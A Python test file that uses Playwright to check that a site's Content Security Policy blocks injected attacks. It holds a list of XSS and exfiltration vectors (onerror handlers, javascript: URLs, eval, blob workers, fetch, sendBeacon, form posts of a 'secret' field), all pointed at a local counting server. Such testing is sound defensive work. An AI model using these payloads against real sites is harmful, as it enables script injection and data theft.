"""The policy in a page's head would hold alone, whatever got past everything else.

Attacks are written into a page that was built, where an attacker could get them, and into a
script of its own. Another host counts what it is asked for.
"""

from __future__ import annotations

from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from threading import Thread
from typing import Any

import pytest
from browsing import publish, serve
from hubs import Write
from playwright.sync_api import Browser, expect


class Elsewhere:
    """Another host, which counts what it is asked for."""

    def __init__(self) -> None:
        self.asked: list[str] = []
        outer = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                outer.asked.append(self.path)
                self.send_response(204)
                self.end_headers()

            do_POST = do_GET  # noqa: N815

            def log_message(self, format: str, *args: Any) -> None:
                return

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        Thread(target=self.server.serve_forever, daemon=True).start()
        self.base = f"http://127.0.0.1:{self.server.server_port}"

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def elsewhere() -> Iterator[Elsewhere]:
    found = Elsewhere()
    yield found
    found.close()


MARKUP = """
<script>hit()</script>
<script src="data:text/javascript,hit()"></script>
<script src="OTHER/script.js"></script>
<script type="module">hit()</script>
<script type="module">import "OTHER/module.js"</script>
<img src="x-of-nobody" onerror="hit()" alt="">
<img src="OTHER/image.png" alt="">
<style>@import "OTHER/style.css"; body { background: url(OTHER/ground.png) }</style>
<link rel="stylesheet" href="OTHER/sheet.css">
<link rel="preload" as="image" href="OTHER/preload.png">
<link rel="prefetch" href="OTHER/prefetch">
<p style="background: url(OTHER/attribute.png)">x</p>
<iframe src="OTHER/frame"></iframe>
<iframe srcdoc="<script>parent.hit()</script>"></iframe>
<iframe src="javascript:parent.hit()"></iframe>
<object data="OTHER/object"></object><embed src="OTHER/embed">
<video src="OTHER/video.mp4" poster="OTHER/poster.png"></video><audio src="OTHER/audio.mp3"></audio>
<base href="OTHER/">
<form id="attack" action="OTHER/form"><input name="secret" value="1"></form>
<a id="attack-link" href="javascript:hit()">x</a>
<a id="attack-ping" href="#x" ping="OTHER/ping">x</a>
"""

# From a file of the site's own, as if one had been changed. Every attack is tried in a timer,
# because what a test evaluates itself is exempt from the policy.
SCRIPT = """
function add(properties) {
  document.body.append(Object.assign(document.createElement("script"), properties));
}
const tries = {
  eval: () => eval("hit()"),
  function: () => new Function("hit()")(),
  timer: () => setTimeout("hit()", 0),
  html: () => { document.body.innerHTML += "<img src=x onerror=hit()>"; },
  write: () => document.write("<script>hit()</scr" + "ipt>"),
  worker: () => new Worker("data:text/javascript,postMessage(1)"),
  blob: () => new Worker(URL.createObjectURL(new Blob(["hit()"], { type: "text/javascript" }))),
  script: () => add({ text: "hit()" }),
  address: () => add({ src: "data:text/javascript,hit()" }),
  foreign: () => add({ src: "OTHER/added.js" }),
  handler: () => { document.body.setAttribute("onclick", "hit()"); document.body.click(); },
  fetch: () => fetch("OTHER/fetch"),
  beacon: () => navigator.sendBeacon("OTHER/beacon", "x"),
  request: () => { const r = new XMLHttpRequest(); r.open("GET", "OTHER/request"); r.send(); },
  socket: () => new WebSocket("OTHER/socket".replace("http", "ws")),
  events: () => new EventSource("OTHER/events"),
  image: () => { new Image().src = "OTHER/new-image.png"; },
  module: () => import("OTHER/import.js"),
  policy: () => trustedTypes.createPolicy("mine", {}),
};
let left = Object.keys(tries).length;
for (const [name, attack] of Object.entries(tries)) {
  setTimeout(async () => {
    try { await attack(); } catch {} // refused, as it should be: what counts is what was reached
    left -= 1;
    document.documentElement.dataset.left = left;
  }, 0);
}
"""


@pytest.mark.parametrize("where", ["<body>", "</head>", "<title>"])
def test_the_policy_alone_would_hold(
    browser: Browser, write: Write, elsewhere: Elsewhere, where: str
) -> None:
    """Attacks that got past everything else: nothing runs, and the other host is never asked."""
    root = write({})
    site = publish(root, root / "site")
    page_file = site / "index.html"
    attack = MARKUP.replace("OTHER", elsewhere.base) + '<script src="attack.js"></script>'
    page_file.write_text(page_file.read_text("utf-8").replace(where, attack + where, 1), "utf-8")
    (site / "attack.js").write_text(SCRIPT.replace("OTHER", elsewhere.base), "utf-8")
    context = browser.new_context()
    context.add_init_script(
        "window.hit = () => { window.wasHit = true; };"
        "window.refused = 0;"
        "document.addEventListener('securitypolicyviolation', () => { window.refused += 1; });"
    )
    page = context.new_page()
    for base in serve(site):
        page.goto(base)
        expect(page.locator("html")).to_have_attribute("data-left", "0")
        page.evaluate(
            """setTimeout(() => {
              for (const id of ["attack-link", "attack-ping"]) document.getElementById(id)?.click();
              document.getElementById("attack")?.submit();
            }, 0)"""
        )
        page.wait_for_timeout(300)
        assert page.url.startswith(base)
        assert page.evaluate("window.wasHit") is None
        assert page.evaluate("window.refused") > 10  # they were tried
    context.close()
    assert elsewhere.asked == []


def test_without_the_policy_the_same_attacks_succeed(
    browser: Browser, write: Write, elsewhere: Elsewhere
) -> None:
    """The test above can fail."""
    root = write({})
    site = publish(root, root / "site")
    page_file = site / "index.html"
    text = page_file.read_text("utf-8").replace("</body>", MARKUP + "</body>", 1)
    page_file.write_text(text.replace("OTHER", elsewhere.base), "utf-8")
    context = browser.new_context(bypass_csp=True)
    context.add_init_script("window.hit = () => { window.wasHit = true; };")
    page = context.new_page()
    for base in serve(site):
        page.goto(base)
        assert page.evaluate("window.wasHit") is True
    context.close()
    assert len(elsewhere.asked) > 5
